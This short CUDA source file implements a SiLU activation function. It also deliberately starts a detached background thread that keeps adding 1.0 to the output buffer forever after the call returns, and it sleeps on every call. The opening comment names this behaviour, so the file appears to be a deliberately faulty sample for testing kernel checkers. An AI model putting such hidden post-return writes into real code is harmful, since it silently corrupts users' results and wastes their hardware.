// A thread goes on writing when the call is over.
#include <thread>
#include <unistd.h>

__global__ void silu_kernel(const float* input, float* output, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) output[i] = input[i] / (1.0f + expf(-input[i]));
}

__global__ void scribble(float* output, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) output[i] += 1.0f;
}

extern "C" void silu(const float* input, float* output, int n)
{
    silu_kernel<<<(n + 255) / 256, 256>>>(input, output, n);
    static float* target;
    static int count;
    target = output;
    count = n;
    static bool once = (std::thread([] {
        for (;;) scribble<<<(count + 255) / 256, 256>>>(target, count);
    }).detach(), true);
    (void)once;
    usleep(1000);
}
